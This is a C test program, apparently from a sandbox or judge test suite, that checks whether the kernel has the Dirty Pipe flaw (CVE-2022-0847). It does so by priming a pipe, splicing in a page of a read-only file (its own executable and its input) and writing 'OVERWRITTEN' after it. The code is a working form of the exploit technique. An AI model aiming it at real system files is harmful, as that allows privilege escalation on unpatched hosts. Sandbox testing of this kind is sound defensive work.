// try: splices a page of a file that it may only read into a pipe and writes behind it, which on some kernels changes the page for everybody (CVE-2022-0847)
// want: AC
// runs: 2
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(void)
{
	// A page of our own executable in /code, and one of the input: nobody else's.
	const char *files[] = {"/proc/self/exe", "/proc/self/fd/0"};
	int bad = 0;
	for (int i = 0; i < 2; i++) {
		char before[8192] = "", after[8192] = "";
		int file = open(files[i], O_RDONLY), pipes[2];
		if (file < 0 && i == 1)
			continue;
		if (file < 0 || pread(file, before, sizeof before, 0) < 0 || pipe(pipes))
			return 3;
		int size = fcntl(pipes[1], F_GETPIPE_SZ);
		char junk[4096] = "";
		for (int n = 0; n < size; n += sizeof junk) // mark every slot as one that may be merged
			write(pipes[1], junk, sizeof junk);
		for (int n = 0; n < size; n += sizeof junk)
			read(pipes[0], junk, sizeof junk);
		off_t offset = 1;
		splice(file, &offset, pipes[1], NULL, 1, 0);
		write(pipes[1], "OVERWRITTEN", 11);
		pread(file, after, sizeof after, 0);
		if (memcmp(before, after, sizeof before))
			bad = printf("%s is changed\n", files[i]);
	}
	if (!bad)
		puts("ok");
}
